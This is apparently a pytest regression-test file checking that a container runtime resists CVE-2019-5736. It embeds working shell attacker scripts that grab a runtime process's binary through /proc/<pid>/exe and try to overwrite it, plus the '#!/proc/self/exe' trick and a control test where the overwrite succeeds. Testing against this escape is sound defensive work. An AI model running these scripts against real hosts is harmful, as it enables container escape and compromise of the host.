"""CVE-2019-5736: a process in a container must never be able to write the runtime's binary
through /proc/<pid>/exe of a runtime process it can see.

The attacks run against a private copy of the runtime binary (never the build output). Each
test checks the attacker's own report (every write failed) and that the copy's sha256 is
unchanged. No timing assumptions: the host side repeats or waits until the attacker reports,
bounded by generous timeouts.
"""

import hashlib
import shutil
import subprocess

from conftest import RUNE_BIN, cap_mask, pid_alive, read_text, rune_specific, wait_until

# Write attempts the attacker makes once it holds an fd on the runtime's binary. Errors a
# protected runtime may produce: ETXTBSY, EROFS, EPERM (sealed memfd), EACCES.
REFUSALS = ("Text file busy", "Read-only file system", "Operation not permitted",
            "Permission denied")

GRAB_AND_WRITE = r"""
held() {  # $1 = /proc/<pid> whose exe is now fd 3
  t=$(readlink /proc/self/fd/3)
  echo "$1 $t" > /ctl/held.tmp && mv /ctl/held.tmp /ctl/held
  # While the runtime may still be running: write straight through the magic link.
  { printf PWNED >> "$1/exe"; } 2>> /ctl/direct.err; echo $? > /ctl/direct.rc
  while [ ! -e /ctl/go ]; do usleep 10000; done
  # The runtime has exited: re-open the held file for writing (the CVE's second step).
  { printf PWNED > /proc/self/fd/3; } 2>> /ctl/write.err; echo $? > /ctl/write.rc
  { printf PWNED >> /proc/self/fd/3; } 2>> /ctl/write.err; echo $? > /ctl/append.rc
  : > /ctl/done
  exec sleep 3600
}
"""

# Runs as PID 1 of the container: any other process showing up in its pid namespace is grabbed
# the moment it appears. No forks in the scanning loop, so pids stay free for the runtime.
EXEC_ATTACKER = "#!/bin/sh\nexec 2> /dev/null\n" + GRAB_AND_WRITE + r"""
: > /ctl/ready
while :; do
  for d in /proc/[0-9]*; do
    [ "$d" = /proc/1 ] && continue
    if command exec 3< "$d/exe"; then
      case "$(readlink /proc/self/fd/3)" in
        */busybox) command exec 3<&- ;;
        *) held "$d" ;;
      esac
    elif [ -e "$d" ] && [ ! -e /ctl/refused ]; then
      # The process exists but its exe cannot even be opened (e.g. it is not dumpable).
      echo "$d" > /ctl/refused
    fi
  done
done
"""

# Shares the host's pid namespace and waits for the pid written to /ctl/target.
TARGET_ATTACKER = "#!/bin/sh\nexec 2> /dev/null\n" + GRAB_AND_WRITE + r"""
: > /ctl/ready
while [ ! -e /ctl/target ]; do usleep 10000; done
p=$(cat /ctl/target)
if command exec 3< "/proc/$p/exe"; then
  held "/proc/$p"
fi
echo "open failed" > /ctl/open-failed
: > /ctl/done
exec sleep 3600
"""


def sha256(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def runtime_copy(workdir, rune):
    d = workdir / "runtime-bin"
    d.mkdir()
    copy = d / rune.name
    shutil.copy2(RUNE_BIN, copy)
    return copy


def attacker_bundle(bundle, workdir, script):
    b = bundle(["/attack.sh"])
    ctl = workdir / "ctl"
    ctl.mkdir()
    b.add_mount("/ctl", ctl)
    b.write_script("/attack.sh", script)
    # The classic trick: a "program" whose interpreter is the caller's own binary.
    b.write_script("/evil", "#!/proc/self/exe\n")
    return b, ctl


def report(ctl):
    return {f.name: f.read_text() for f in sorted(ctl.iterdir()) if f.is_file()}


def assert_attack_failed(ctl, copy, digest):
    rep = report(ctl)
    for name in ("direct.rc", "write.rc", "append.rc"):
        assert rep[name].strip() != "0", (name, rep)
    errors = rep.get("direct.err", "") + rep.get("write.err", "")
    print("attacker report:", rep)
    assert any(r in errors for r in REFUSALS), rep
    assert sha256(copy) == digest, f"the runtime binary was modified: {rep}"


@rune_specific
def test_exec_cannot_overwrite_runtime_binary(rune, bundle, workdir):
    copy = runtime_copy(workdir, rune)
    digest = sha256(copy)
    b, ctl = attacker_bundle(bundle, workdir, EXEC_ATTACKER)
    cid = rune.new_id()
    rune.run_detached(cid, b, binary=copy)
    wait_until(lambda: (ctl / "ready").exists(), what="attacker to start")

    # Each exec puts a runtime process into the container's pid namespace, and /evil makes the
    # container run the runtime's own binary as its payload. Repeat until the attacker holds
    # one -- or it has seen runtime processes whose exe it may not even open, over enough
    # attempts that a later, openable phase (e.g. the re-executed binary) would have shown up.
    attempts = 0

    def outcome():
        nonlocal attempts
        if (ctl / "held").exists():
            return "held"
        attempts += 1
        rune.cmd("exec", cid, "/evil", binary=copy, timeout=60)
        if (ctl / "held").exists():
            return "held"
        if attempts >= 50 and (ctl / "refused").exists():
            return "refused"
        return None

    result = wait_until(outcome, timeout=300, interval=0,
                        what="the attacker to see a runtime process")
    if result == "held":
        (ctl / "go").touch()
        wait_until(lambda: (ctl / "done").exists(), timeout=60,
                   what="the attacker's write attempts")
        assert "busybox" not in read_text(ctl / "held")
        assert_attack_failed(ctl, copy, digest)
    else:
        assert sha256(copy) == digest
    # The runtime still works afterwards.
    res = rune.cmd("exec", cid, "echo", "still-works", binary=copy)
    assert res.rc == 0 and res.out == "still-works\n", res


@rune_specific
def test_created_init_cannot_be_overwritten(rune, bundle, workdir):
    """The runtime's init process waiting in a created container; an attacker sharing the host
    pid namespace (and allowed to ptrace-read it) grabs its exe, then writes after it died."""
    copy = runtime_copy(workdir, rune)
    digest = sha256(copy)
    victim = bundle()
    vid = rune.new_id("victim")
    rune.create(vid, victim, binary=copy)
    vpid = rune.pid(vid)

    b, ctl = attacker_bundle(bundle, workdir, TARGET_ATTACKER)
    b.remove_namespace("pid")
    caps = ["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_KILL"]
    b.process["capabilities"] = {k: caps for k in ("bounding", "effective", "permitted")}
    aid = rune.new_id("attacker")
    rune.run_detached(aid, b, binary=copy)
    apid = rune.pid(aid)
    assert int(read_text(f"/proc/{apid}/status").split("CapEff:")[1].split()[0], 16) == \
        cap_mask(caps)
    wait_until(lambda: (ctl / "ready").exists(), what="attacker to start")

    (ctl / "target").write_text(str(vpid))
    wait_until(lambda: (ctl / "held").exists() or (ctl / "open-failed").exists(),
               what="the attacker to open the init's exe")
    rune.ok("delete", "--force", vid, binary=copy)
    wait_until(lambda: not pid_alive(vpid), what="the runtime's init to exit")
    (ctl / "go").touch()
    wait_until(lambda: (ctl / "done").exists(), timeout=60, what="the attacker's write attempts")
    if (ctl / "open-failed").exists():
        # Refusing the open itself is a protection too; nothing could be written.
        assert sha256(copy) == digest
        return
    assert_attack_failed(ctl, copy, digest)


def test_attacker_control_unprotected_binary(rune, bundle, workdir):
    """Control for the tests above: the same attacker does overwrite an unprotected binary
    (a copy of busybox run as a plain host process), so a runtime without protection would
    fail them."""
    victim_bin = workdir / "victim-bin" / "busybox"
    victim_bin.parent.mkdir()
    shutil.copy2("/bin/busybox", victim_bin)
    digest = sha256(victim_bin)
    victim = subprocess.Popen([str(victim_bin), "sleep", "3600"])
    try:
        b, ctl = attacker_bundle(bundle, workdir, TARGET_ATTACKER)
        b.remove_namespace("pid")
        caps = ["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_KILL"]
        b.process["capabilities"] = {k: caps for k in ("bounding", "effective", "permitted")}
        rune.run_detached(rune.new_id(), b)
        wait_until(lambda: (ctl / "ready").exists(), what="attacker to start")
        (ctl / "target").write_text(str(victim.pid))
        wait_until(lambda: (ctl / "held").exists(), what="the attacker to open the exe")
    finally:
        victim.kill()
        victim.wait()
    (ctl / "go").touch()
    wait_until(lambda: (ctl / "done").exists(), timeout=60, what="the attacker's write attempts")
    rep = report(ctl)
    assert "Text file busy" in rep["direct.err"], rep  # refused only while it was running
    assert rep["write.rc"].strip() == "0" and rep["append.rc"].strip() == "0", rep
    assert victim_bin.read_bytes() == b"PWNEDPWNED" and sha256(victim_bin) != digest
